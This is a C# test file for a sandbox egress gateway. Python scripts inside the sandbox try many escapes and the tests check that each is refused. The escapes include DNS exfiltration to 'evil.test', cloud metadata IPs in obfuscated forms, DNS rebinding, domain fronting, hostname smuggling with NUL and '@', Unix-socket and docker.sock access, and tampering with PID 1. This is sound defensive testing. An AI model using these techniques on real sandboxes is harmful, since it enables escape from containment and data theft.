using System.Net;
using System.Net.Sockets;
using Rynxs.Gateway.Egress;
using Rynxs.Policy.Egress;
using Rynxs.Policy.Rules;
using Rynxs.Sandbox;
using static Rynxs.Gateway.Tests.Sandboxed.SandboxedEgress;

namespace Rynxs.Gateway.Tests.Sandboxed;

/// <summary>The catalogue's part C from the attacker's place: a program in a real sandbox. Each script begins with what must work, so that a broken way out proves nothing.</summary>
public sealed class EscapeAttackTests(SandboxedEgress fixture)
{
    private const string Prelude = """
        import socket, struct, ssl, json, os, sys
        def tried(f):
            try: return str(f())
            except Exception as e: return 'no: ' + type(e).__name__
        def connect(target, host=None, extra=b''):
            s = socket.create_connection(('127.0.0.1', 3128), 10)
            s.sendall(b'CONNECT ' + target + b' HTTP/1.1\r\nHost: ' + (host or target) + b'\r\n' + extra + b'\r\n')
            d = b''
            while b'\r\n\r\n' not in d:
                c = s.recv(1) # not a byte of the tunnel
                if not c: break
                d += c
            return s, d.split(b'\r\n')[0].decode('latin-1')
        def status(target, host=None): return connect(target, host)[1]
        def context():
            c = ssl.create_default_context(cafile='/tmp/ca.pem'); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE; return c
        def tls(target, sni):
            s, line = connect(target)
            t = context().wrap_socket(s, server_hostname=sni)
            t.sendall(b'GET / HTTP/1.1\r\nHost: ' + target.split(b':')[0] + b'\r\nConnection: close\r\n\r\n')
            return t.recv(100).split(b'\r\n')[0].decode()
        def socks(address, port=443):
            s = socket.create_connection(('127.0.0.1', 3128), 10)
            s.sendall(b'\5\1\0'); s.recv(2)
            s.sendall(b'\5\1\0' + address + struct.pack('>H', port))
            return s.recv(10)[1]
        def http(target, headers=b'', method=b'GET'):
            s = socket.create_connection(('127.0.0.1', 3128), 10)
            s.sendall(method + b' ' + target + b' HTTP/1.1\r\n' + headers + b'Connection: close\r\n\r\n')
            return s.recv(200).split(b'\r\n')[0].decode('latin-1')
        def ask(name, kind, sock=socket.SOCK_DGRAM, to=('127.0.0.1', 53)):
            q = b'\1\2\1\0\0\1\0\0\0\0\0\0' + b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\0' + struct.pack('>HH', kind, 1)
            s = socket.socket(socket.AF_INET, sock); s.settimeout(3); s.connect(to)
            if sock == socket.SOCK_STREAM: s.sendall(struct.pack('>H', len(q)) + q); return 'rcode %d' % (s.recv(512)[2 + 3] & 15)
            s.send(q); return 'rcode %d' % (s.recv(512)[3] & 15)
        r = []
        def case(name, f): r.append(name + ' = ' + tried(f))

        """;

    private static readonly EgressPolicyModel Policy = EgressPolicyModel.Of(
        Allow("allowed.test", EgressProtocol.Tls, 443), Allow("*.allowed.test", EgressProtocol.Tls, 443), Allow("metadata.test", EgressProtocol.Tls, 443), Allow("rebinding.test", EgressProtocol.Tls, 443),
        Allow("allowed.test", EgressProtocol.Http, 80), Allow("packages.test", EgressProtocol.Http, 80, ["GET"], [new Glob("/simple/*")]));

    [Fact]
    public async Task C1_C12_nothing_gets_past_the_proxy_by_dns_address_family_or_raw_sockets()
    {
        await using SandboxWithGateway box = await fixture.OpenAsync(Policy);

        string output = await box.PythonAsync(Prelude + """
            case('control tls', lambda: tls(b'allowed.test:443', 'allowed.test'))
            case('control dns', lambda: ask(b'allowed.test', 1))
            case('C1 A', lambda: ask(b'secret-data.evil.test', 1))
            case('C1 TXT', lambda: ask(b'secret-data.evil.test', 16))
            case('C1 NULL', lambda: ask(b'a' * 60 + b'.' + b'b' * 60 + b'.evil.test', 10))
            case('C1 tcp', lambda: ask(b'secret-data.evil.test', 1, socket.SOCK_STREAM))
            case('C1 resolver', lambda: ask(b'allowed.test', 1, socket.SOCK_DGRAM, ('192.0.2.53', 53)))
            case('C1 mdns', lambda: ask(b'allowed.test', 1, socket.SOCK_DGRAM, ('224.0.0.251', 5353)))
            case('C1 dot', lambda: status(b'allowed.test:853'))
            case('C2 direct', lambda: socket.create_connection(('192.0.2.1', 443), 3))
            case('C3 v6', lambda: socket.create_connection(('2001:db8::1', 443), 3))
            case('C3 mapped', lambda: socket.create_connection(('::ffff:192.0.2.1', 443), 3))
            case('C3 nat64', lambda: socket.create_connection(('64:ff9b::c000:201', 443), 3))
            def udp():
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x' * 1200, ('192.0.2.1', 443)); return 'sent'
            case('C4 quic', udp)
            case('C4 raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) and 'opened')
            case('C4 packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW) and 'opened')
            case('C4 sctp', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) and 'opened')
            case('C5 metadata direct', lambda: socket.create_connection(('169.254.169.254', 80), 3))
            os.environ['NO_PROXY'] = '*'
            import urllib.request
            case('C12 no proxy', lambda: urllib.request.build_opener(urllib.request.ProxyHandler({})).open('http://denied.test/', timeout=3))
            case('C12 socket', lambda: socket.create_connection(('denied.test', 443), 3))
            print('\n'.join(r))
            """);

        string[] lines = output.Trim().Split('\n');
        lines.Take(2).ShouldBe(["control tls = HTTP/1.1 200 OK", "control dns = rcode 0"], output);
        foreach (string line in lines.Skip(2))
        {
            (line.Contains("= no: ") || line.EndsWith("rcode 3", StringComparison.Ordinal) || line.EndsWith("403 egress_denied", StringComparison.Ordinal)).ShouldBeTrue(output);
        }

        lines.Length.ShouldBe(20, output);
        fixture.Resolver.Asked.ShouldNotContain(name => name.Contains("evil") || name == "denied.test", "nothing of a denied name was asked of any resolver");
        EgressEvent.Denied dns = await box.Log.WaitForAsync<EgressEvent.Denied>(denied => denied.Reason == EgressDenial.Name);
        dns.Host.ShouldNotBeNull();
    }

    [Fact]
    public async Task C5_C6_C8_C9_C10_names_addresses_and_fronting_are_refused_by_the_gateway()
    {
        fixture.Resolver.Table["metadata.test"] = [IPAddress.Parse("169.254.169.254")];
        fixture.Resolver.Table["rebinding.test"] = [IPAddress.Parse("10.0.0.1"), IPAddress.Parse("64:ff9b::a00:1")];
        await using SandboxWithGateway box = await fixture.OpenAsync(Policy);

        string output = await box.PythonAsync(Prelude + """
            case('control', lambda: tls(b'allowed.test:443', 'allowed.test'))
            case('control wildcard', lambda: tls(b'x.allowed.test:443', 'x.allowed.test'))
            case('control http', lambda: http(b'http://allowed.test/', b'Host: allowed.test\r\n'))
            for ip in (b'169.254.169.254:80', b'100.100.100.200:80', b'168.63.129.16:80', b'[fd00:ec2::254]:80', b'2852039166:80', b'0xa9.0xfe.0xa9.0xfe:80', b'0251.0376.0251.0376:80', b'169.254.43518:80', b'127.1:80', b'127.0.0.2:443'):
                case('C5 connect ' + ip.decode(), lambda: status(ip))
            case('C5 absolute', lambda: http(b'http://169.254.169.254/', b'Host: 169.254.169.254\r\n'))
            case('C5 resolved', lambda: status(b'metadata.test:443'))
            case('C6 rebinding', lambda: status(b'rebinding.test:443'))
            case('C8 fronting', lambda: tls(b'allowed.test:443', 'denied.test'))
            case('C8 no name', lambda: tls(b'allowed.test:443', None))
            case('C8 host', lambda: status(b'allowed.test:443', b'denied.test:443'))
            def plain():
                s, line = connect(b'allowed.test:443'); s.sendall(b'GET / HTTP/1.1\r\nHost: denied.test\r\n\r\n'); return s.recv(10) or 'no: closed'
            case('C8 no tls', plain)
            for h in (b'allowed.test\x00.denied.test:443', b'allowed.test@denied.test:443', b'allowed.test.denied.test:443', b'ALLOWED.test..:443', b'xn--allowed-.test:443', b'evil-allowed.test:443', b'allowed.test.:8443', b'test:443', b'*:443'):
                case('C9 C10 ' + repr(h), lambda: status(h))
            case('C9 socks nul', lambda: 'no: reply %d' % socks(b'\3' + bytes([24]) + b'allowed.test\0.denied.tes') )
            case('C9 socks v4', lambda: 'no: reply %d' % socks(b'\1' + socket.inet_aton('192.0.2.1')))
            case('C13 path', lambda: http(b'http://packages.test/upload/x', b'Host: packages.test\r\n'))
            case('C13 method', lambda: http(b'http://packages.test/simple/x', b'Host: packages.test\r\nContent-Length: 0\r\n', b'POST'))
            case('C13 dots', lambda: http(b'http://packages.test/simple/../upload', b'Host: packages.test\r\n'))
            case('C13 tunnel', lambda: status(b'packages.test:80'))
            print('\n'.join(r))
            print(http(b'http://packages.test/simple/x', b'Host: packages.test\r\n'))
            print(tried(lambda: tls(b'allowed.test:443', 'allowed.test')))
            """, 60);

        string[] lines = output.Trim().Split('\n');
        lines.Take(3).ShouldAllBe(line => line.EndsWith("HTTP/1.1 200 OK"), output);
        lines.TakeLast(2).ShouldAllBe(line => line == "HTTP/1.1 200 OK", output);
        lines.Length.ShouldBeGreaterThan(30, output);
        foreach (string line in lines[3..^2])
        {
            (line.Contains("= no: ") || line.Contains("HTTP/1.1 403") || line.Contains("HTTP/1.1 400")).ShouldBeTrue($"{line}\n\n{output}");
            line.ShouldNotContain("reply 0");
        }
    }

    [Fact]
    public async Task C7_C16_no_other_socket_of_the_host_can_be_reached()
    {
        string directory = Path.Combine("/run", "rynxs-t-" + Guid.NewGuid().ToString("n")[..8]);
        Directory.CreateDirectory(directory);
        using Socket other = new(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
        other.Bind(new UnixDomainSocketEndPoint(Path.Combine(directory, "s")));
        other.Listen(8);
        using Socket hidden = new(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
        hidden.Bind(new UnixDomainSocketEndPoint("\0rynxs-t-abstract"));
        hidden.Listen(8);
        try
        {
            await using SandboxWithGateway box = await fixture.OpenAsync(Policy);
            await using SandboxWithGateway neighbour = await fixture.OpenAsync(Policy);
            string runDirectory = Path.GetDirectoryName(Path.GetDirectoryName(Path.GetDirectoryName(neighbour.SocketPath)))!; // RUN/KEY/sb-…/e/s

            string output = await box.PythonAsync(Prelude + $$"""
                case('control', lambda: tls(b'allowed.test:443', 'allowed.test'))
                def unix(path):
                    s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect(path); return 'connected'
                case('path', lambda: unix('{{directory}}/s'))
                case('abstract', lambda: unix('\0rynxs-t-abstract'))
                case('neighbour', lambda: unix('{{neighbour.SocketPath}}'))
                case('runsc', lambda: os.listdir('{{runDirectory}}'))
                case('up', lambda: unix('/dev/rynxs/../../{{directory}}/s'))
                case('own as a program', lambda: unix('/dev/rynxs/s'))
                case('list', lambda: os.listdir('/dev/rynxs'))
                case('link', lambda: os.symlink('{{directory}}/s', '/dev/rynxs/l'))
                os.symlink('{{directory}}/s', '/tmp/l')
                case('through a link', lambda: unix('/tmp/l'))
                def make():
                    s = socket.socket(socket.AF_UNIX); s.bind('/dev/rynxs/x'); return 'made'
                case('make', make)
                case('docker', lambda: unix('/var/run/docker.sock'))
                case('kill forwarder', lambda: os.kill(1, 9) or 'killed')
                case('trace forwarder', lambda: open('/proc/1/mem', 'rb') and 'opened')
                print('\n'.join(r))
                """);

            string[] lines = output.Trim().Split('\n');
            lines[0].ShouldBe("control = HTTP/1.1 200 OK", output);
            lines.Length.ShouldBe(14, output);
            lines.Skip(1).ShouldAllBe(line => line.Contains("= no: "), output);
        }
        finally
        {
            Directory.Delete(directory, recursive: true);
        }
    }

    [Fact]
    public async Task C4_C11_C13_other_protocols_need_a_rule_and_a_cut_permission_cuts_what_is_open()
    {
        await using SandboxWithGateway box = await fixture.OpenAsync(EgressPolicyModel.Of(Allow("allowed.test", EgressProtocol.Tls, 443), Allow("allowed.test", EgressProtocol.Tls, 25)));
        (await box.PythonAsync(Prelude + """
            s, line = connect(b'allowed.test:25')
            print(line); s.sendall(b'EHLO x\r\n'); print(s.recv(100) or b'closed')
            """)).ShouldBe("HTTP/1.1 200 Connection established\nb'closed'\n", "TLS is allowed there, and SMTP is none");

        box.Channel.ReplacePolicy(EgressPolicyModel.Of(Allow("allowed.test", EgressProtocol.Tcp, 25)) with { OpenedAddresses = [Range("127.0.0.2")] });
        TaskCompletionSource ready = new(TaskCreationOptions.RunContinuationsAsynchronously);
        Task<string> open = box.PythonAsync(Prelude + """
            s, line = connect(b'allowed.test:25')
            print(s.recv(100)); s.sendall(b'EHLO x\r\n'); print(s.recv(100)); sys.stdout.flush()
            s, line = connect(b'allowed.test:25'); print(s.recv(100)); print('READY'); sys.stdout.flush(); s.settimeout(20); print(s.recv(100) or b'cut')
            """, ready: ready);
        await ready.Task.WaitAsync(TimeSpan.FromSeconds(30), TestContext.Current.CancellationToken);
        box.Channel.ReplacePolicy(EgressPolicyModel.DenyAll);
        (await open).ShouldBe("b'220 mail.test\\r\\n'\nb'EHLO x\\r\\n'\nb'220 mail.test\\r\\n'\nREADY\nb'cut'\n");
        (await box.Log.WaitForAsync<EgressEvent.Closed>(closed => closed.End == FlowEnd.PermissionEnded)).BytesIn.ShouldBeGreaterThan(0);
    }

    [Fact]
    public async Task C14_C15_without_a_gateway_or_without_its_answer_the_sandbox_is_refused_or_closed()
    {
        await Should.ThrowAsync<SandboxRefusedException>(() => fixture.OpenRefusedAsync());

        await using SandboxWithGateway box = await fixture.OpenAsync(Policy);
        await box.Channel.DisposeAsync();
        (await box.ShellAsync("curl -s --max-time 5 https://allowed.test/; echo \"curl $?\"; curl -s --noproxy '*' --max-time 5 https://allowed.test/; echo \"curl $?\""))
            .ShouldMatch("^curl (56|52|97)\ncurl 6\n$", "a gateway that is gone is a closed door");
    }

    [Fact]
    public async Task Without_a_way_out_there_is_none()
    {
        await using ISandbox sandbox = await fixture.OpenWithoutAsync();
        ExecutionResult result = await sandbox.ExecuteAsync(
            new ExecutionRequest
            {
                ExecutionId = "t", Arguments = ["/bin/bash", "-c", "ls /dev/rynxs; env | grep -i proxy; curl -s --max-time 3 http://allowed.test/; echo $?; curl -s -x http://127.0.0.1:3128 http://allowed.test/; echo $?"],
            },
            TestContext.Current.CancellationToken);
        System.Text.Encoding.UTF8.GetString(result.StandardOutput.Span).ShouldBe("6\n7\n");
    }
}
